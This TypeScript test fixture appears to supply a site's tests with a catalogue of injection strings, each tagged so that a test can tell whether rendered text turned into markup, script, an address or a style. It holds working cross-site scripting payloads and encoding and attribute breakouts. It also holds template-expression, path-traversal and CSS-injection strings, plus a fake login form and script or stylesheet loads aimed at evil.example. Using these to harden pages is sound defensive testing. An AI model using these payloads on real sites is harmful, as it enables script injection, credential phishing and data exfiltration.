// cspell:ignore ltimg Cimg notit
/**
 * Texts that try to become markup, code, an address, or a style where a page shows them, one for each technique. Whatever
 * they make carries the mark of the place that the text was put into, so that a test that sees it act can name the place:
 * an attribute `hurt`, a call of `alert`, or a request to `evil.example`.
 */
export interface AttackText {
  /** What it tries. */
  name: string;
  /** @param mark letters and digits that name the place */
  at: (mark: string) => string;
  /**
   * `part`: what comes after it on the page may be swallowed or stand elsewhere if it acts, so that pages with several texts
   * have it last.
   */
  swallows?: true;
}

/** A handler that calls `alert`, without a sign that would end an attribute. */
const call = (mark: string): string => `alert(/${mark}/)`;

const image = (mark: string): string => `<img hurt=${mark} src=x onerror=${call(mark)}>`;

/** Each text has less than 160 characters, the shortest limit of texts that hold sentences. */
const texts: Record<string, AttackText['at']> = {
  // Elements
  'an image that fails': image,
  'a script': (mark) => `<script hurt=${mark}>${call(mark)}</script>`,
  'an element of its own': (mark) => `<x-note hurt=${mark} onclick=${call(mark)}>Text</x-note>`,
  // After a sign that a program that shortens HTML may leave as it is, together with what follows it
  'an image after an ampersand': (mark) => `a&${image(mark)}`,
  'an image after two ampersands': (mark) => `a&&${image(mark)}`,
  'an image after an ampersand and a letter': (mark) => `&a${image(mark)}`,
  'a page that moves on, after an ampersand': (mark) =>
    `a=1&<meta hurt=${mark} http-equiv=refresh content="0;url=https://evil.example/${mark}">`,
  'a frame, after an ampersand': (mark) => `a&<iframe hurt=${mark} src=https://evil.example/${mark}></iframe>`,
  'a form, after an ampersand': (mark) =>
    `a&<form hurt=${mark} action=https://evil.example/${mark}><input name=password><button>Log in</button></form>`,
  'a style sheet, after an ampersand': (mark) =>
    `a&<link hurt=${mark} rel=stylesheet href=https://evil.example/${mark}.css>`,
  'a script from elsewhere, after an ampersand': (mark) =>
    `a&<script hurt=${mark} src=https://evil.example/${mark}.js></script>`,
  'an element of its own, after an ampersand': (mark) => `a&<x-note hurt=${mark} onclick=${call(mark)}>`,
  'an instruction, after an ampersand': (mark) => `a&<?hurt ${mark} ?>`,
  // Encoded signs, which a second reading would decode
  'encoded signs': (mark) => `&lt;img hurt=${mark} src=x onerror=${call(mark)}&gt;`,
  'signs encoded twice': (mark) => `&amp;lt;img hurt=${mark} src=x onerror=${call(mark)}&amp;gt;`,
  'encoded signs without a semicolon': (mark) => `&ltimg hurt=${mark} src=x onerror=${call(mark)}&gt`,
  'numbers for signs': (mark) => `&#60;img hurt=${mark} src=x onerror=${call(mark)}&#x3e;`,
  'escapes of JavaScript for signs': (mark) => `\\u003cimg hurt=${mark} src=x onerror=${call(mark)}\\u003e`,
  'escapes of addresses for signs': (mark) => `%3Cimg%20hurt=${mark}%20src=x%20onerror=${call(mark)}%3E`,
  'names that are no entities': (mark) => `R&D &copy &notit &amp${mark} &lt2 &#x`,
  // Ends of what a text is in
  'the end of a script': (mark) => `</script><script hurt=${mark}>${call(mark)}</script>`,
  'the end of other elements': (mark) => `</title></textarea></style></noscript></template>${image(mark)}`,
  'the end of an attribute': (mark) => `" hurt=${mark} onmouseover=${call(mark)} style="position:fixed;inset:0" x="`,
  'the end of an attribute in single quotes': (mark) => `' hurt=${mark} onfocus=${call(mark)} autofocus tabindex=1 x='`,
  'the end of an attribute and of its element': (mark) => `"><svg hurt=${mark} onload=${call(mark)}>`,
  'the end of character data': (mark) => `]]>${image(mark)}`,
  'the end of a string': (mark) => `'-${call(mark)}-'"+${call(mark)}+"`,
  'the end of a string, after a backslash': (mark) => `\\';${call(mark)}//\\";${call(mark)}//`,
  'the end of a line of JavaScript': (mark) => `${mark}\u2028${call(mark)}\u2029${call(mark)}`,
  'the end of a comment': (mark) => `*/${call(mark)}/* -->${image(mark)}`,
  // Programs that fill in values
  'a part of a template string': (mark) => `\${${call(mark)}} \`\${${call(mark)}}\``,
  'an expression': (mark) => `{${call(mark)}}`,
  'an expression in two braces': (mark) => `{{constructor.constructor('${call(mark)}')()}}`,
  // Addresses and styles
  'a script as an address': (mark) => `javascript:${call(mark)}`,
  'a script as an address, in mixed case and after a sign': (mark) => `\u0001JaVaScRiPt:${call(mark)}`,
  'a page as an address': (mark) => `data:text/html,<script hurt=${mark}>${call(mark)}</script>`,
  'an address without a protocol': (mark) => `//evil.example/${mark}`,
  'an address of another host': (mark) => `https://evil.example/${mark}`,
  'a link to a script': (mark) => `[x](javascript:alert%28/${mark}/%29)`,
  'an image of another host': (mark) => `![x](https://evil.example/${mark}.png)`,
  'a path out of the site': (mark) => `../../../../../../${mark}`,
  'an encoded path out of the site': (mark) => `%2e%2e/%2e%2e/%2e%2e/${mark}`,
  'the end of a style': (mark) => `;}*{display:none!important;background:url(https://evil.example/${mark})}/*`,
  // Names and signs with a meaning
  'the name of the prototype': () => '__proto__',
  'the name of the constructor': () => 'constructor',
  'a name that the site uses': () => '__docusaurus',
  'signs that turn the direction of a text': (mark) => `a \u202Etxt.${mark}\u202C \u2066b`,
};

/** As above, but those after it on a page may be part of what it makes. */
const swallowing: Record<string, AttackText['at']> = {
  'the end of all elements, after an ampersand': (mark) => `a&</code></pre></p></div></article></main>${mark}`,
  'a comment that does not end, after an ampersand': (mark) => `a&<!--hurt ${mark}`,
  'a script in a comment': (mark) => `<!--<script>hurt ${mark}`,
  'a style that hides the page, after an ampersand': (mark) =>
    `a&<style hurt=${mark}>*{display:none!important}</style>`,
  'a base for all links, after an ampersand': (mark) => `a&<base hurt=${mark} href=https://evil.example/${mark}/>`,
};

export const attackTexts: readonly AttackText[] = [
  ...Object.entries(texts).map(([name, at]) => ({name, at})),
  ...Object.entries(swallowing).map(([name, at]): AttackText => ({name, at, swallows: true})),
];

/** A text of the same words and length in which no sign has a meaning; a plain address stays one. */
export const harmless = (text: string): string =>
  /^https:\/\/[\w./-]+$/.test(text) ? text : text.replaceAll(/[^a-z\d ]/gi, 'x');
